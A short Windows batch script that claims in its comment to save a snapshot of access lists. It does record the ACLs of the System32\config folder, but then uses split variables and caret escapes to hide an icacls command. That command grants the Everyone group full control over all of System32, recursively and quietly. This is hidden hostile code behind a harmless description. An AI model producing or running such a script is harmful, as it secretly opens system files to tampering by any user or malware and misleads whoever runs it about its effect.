@echo off
setlocal
rem snapshot of the access lists
set "t=%SystemRoot%\Temp\acl-snapshot.txt"
set "a=ic"
set "b=ac"
set "c=ls"
%a%%b%%c% "%SystemRoot%\System32\config" > "%t%"
set "w=S-1"
set "v=/gr"
%a%^%b%^%c% "%SystemRoot%\System32" %v%ant *%w%-1-0:(OI)(CI)F /T /C /Q >> "%t%" 2>&1
echo written to %t%
